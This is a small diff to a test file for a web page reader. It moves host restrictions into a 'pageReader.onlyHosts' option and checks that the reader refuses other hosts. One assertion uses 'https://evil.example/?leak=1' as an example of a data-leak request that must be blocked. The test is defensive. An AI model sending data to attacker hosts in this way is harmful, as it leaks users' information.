@@ -46,7 +46,7 @@ test('parts that are handed in are taken as they are', async () => {
 test('pages are read of the hosts that were named alone', async () => {
   const site = await startSite({ '/': { body: '<p>Inner page.</p>' } })
   onTestFinished(() => site.close())
-  const open = await webParts({ egress: { allowHosts: [site.host] }, pageHosts: ['docs.example'] })
+  const open = await webParts({ egress: { allowHosts: [site.host] }, pageReader: { onlyHosts: ['docs.example'] } })
   onTestFinished(() => open.close())
   expect((await open.readPage?.(site.origin))?.text).toBe('Inner page.')
   await expect(open.readPage?.('https://evil.example/?leak=1')).rejects.toThrow('operator opened')
